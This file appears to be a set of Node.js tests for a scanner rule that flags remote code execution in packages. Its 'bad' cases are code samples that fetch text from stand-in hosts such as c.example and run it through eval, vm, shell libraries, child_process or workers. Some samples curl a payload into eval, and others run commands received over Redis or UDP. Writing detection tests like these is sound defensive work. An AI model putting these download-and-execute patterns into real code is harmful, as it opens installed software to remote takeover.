import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

/** Of `remote-code`, what starts programs or runs texts by way of libraries, and where a server's answer goes before. */
const worst = (text: string) => findingsOf(rule, { 'a.mjs': text })[0]?.severity ?? 'nothing';
const ANSWER = 'const j = await (await fetch("https://c.example/v1")).json(); ';

test('bad: a library starts or runs what a server answered', () => {
  for (const code of [
    `import { execaCommand } from "execa"; ${ANSWER}await execaCommand(j.cmd, { shell: true });`,
    `import shell from "shelljs"; ${ANSWER}shell.exec(j.cmd, { silent: true });`,
    `import spawn from "cross-spawn"; ${ANSWER}spawn(j.c, j.a);`,
    `import run from "require-from-string"; ${ANSWER}run(j.code);`,
    `import ejs from "ejs"; ${ANSWER}ejs.render(j.page, { require });`,
    `import lodash from "lodash"; ${ANSWER}lodash.template(j.page)();`,
    'import { createClient } from "redis"; import { exec } from "node:child_process"; const c = createClient({ url: "redis://q.example" }); await c.subscribe("jobs", (m) => exec(m));',
    'import { createSocket } from "node:dgram"; import { exec } from "node:child_process"; const u = createSocket("udp4"); u.on("message", (m) => exec(String(m)));',
    'import { execFileSync } from "node:child_process"; eval(execFileSync("curl", ["-s", "https://c.example/x"], { encoding: "utf8" }));',
    'import { execSync } from "node:child_process"; execSync(JSON.parse(execSync("curl -s https://c.example/x").toString()).next);',
    `import { exec } from "node:child_process"; ${ANSWER}const [first] = j; exec(first.content);`,
    'import vm from "node:vm"; const [a, b] = await Promise.all(["a", "b"].map((x) => fetch("https://c.example/" + x).then((r) => r.text()))); vm.runInThisContext(a + b);',
    'import { Worker } from "node:worker_threads"; const t = await (await fetch("https://c.example/p")).text(); const url = new URL(`data:text/javascript,${encodeURIComponent(t)}`); new Worker(url);',
  ]) assert.equal(worst(code), 'critical', code);
});

test('good: what they do besides, and what is written', () => {
  for (const code of [
    `import { execa } from "execa"; ${ANSWER}await execa("git", ["status"]); show(j);`,
    `import ejs from "ejs"; import { readFileSync } from "node:fs"; ${ANSWER}ejs.render(readFileSync("a.ejs", "utf8"), j);`,
    `import ejs from "ejs"; import { readFileSync } from "node:fs"; ejs.render(readFileSync("mails/welcome.txt", "utf8"), {});`,
    `import lodash from "lodash"; ${ANSWER}lodash.pick(j, ["a"]);`,
    `import { execa } from "execa"; ${ANSWER}await execa("open", [j.url]);`,
    'import { execSync } from "node:child_process"; const v = execSync("curl --version").toString(); eval(v);',
    'import { Worker } from "node:worker_threads"; new Worker(new URL("./work.js", import.meta.url));',
  ]) assert.equal(worst(code), 'nothing', code);
});
